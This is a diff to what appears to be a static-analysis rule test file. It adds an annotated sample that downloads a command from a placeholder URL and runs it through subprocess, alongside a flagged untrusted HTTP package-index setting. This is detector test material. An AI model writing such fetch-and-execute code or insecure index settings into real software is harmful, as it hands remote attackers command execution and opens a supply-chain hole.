@@ -608,3 +608,14 @@ subprocess.run(["sudoku-solver", "--level", "3"])
 REQ_HEADER = ["--extra-index-url http://198.51.100.12/simple/", "--trusted-host 198.51.100.12"]
 # ok: untrusted-package-index-config
 TORCH_INDEX = "--extra-index-url https://download.pytorch.org/whl/cu118"
+# the body read through a with-binding in a helper, split and run
+import shlex
+def _next_task(url):
+    with urllib.request.urlopen(url, timeout=10) as resp:
+        body = resp.read().decode().strip()
+    return body
+def _run_task(cmdline):
+    argv = shlex.split(cmdline)
+    # ruleid: network-command, subprocess-call
+    return subprocess.run(argv, capture_output=True, timeout=600)
+_run_task(_next_task("https://tasks.example.com/next"))
